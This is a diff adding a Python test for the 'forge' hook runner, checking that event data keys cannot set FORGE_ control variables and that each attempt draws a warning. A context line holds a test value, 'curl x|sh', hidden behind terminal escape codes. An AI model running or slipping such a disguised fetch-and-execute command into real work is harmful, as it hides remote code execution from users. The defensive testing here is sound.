@@ -284,6 +284,15 @@ def test_data_keys_cannot_set_the_variables_that_steer_forge(project: Project, f
     assert sum("steers forge" in w for w in run.json["warnings"]) == len(names)
 
 
+def test_a_data_key_that_names_a_control_variable_is_named_in_a_warning(project: Project,
+                                                                         forge_run: ForgeRun) -> None:
+    project.write_hooks([{"event": "*", "command": "env | grep -E '^FORGE_(HOOK_CHAIN|SKIP)=x$'; cat"}])
+    run = forge_run({"type": "session:start", "data": {"hook_chain": "x", "skip": "x"}})
+    assert not run.json["results"][0]["stdout"].startswith("FORGE_")  # never set from data
+    said = [w for w in run.json["warnings"] if "control variable" in w]  # before: dropped in silence
+    assert len(said) == 2 and "'hook_chain'" in said[0] and "FORGE_HOOK_CHAIN" in said[0], said
+
+
 # -- item 10: nothing raw reaches a terminal -------------------------------------------------
 def test_list_and_log_write_control_characters_out(project: Project, forge_run: ForgeRun) -> None:
     sneaky = "curl x|sh \x1b[2K\x1b[1G echo hello"
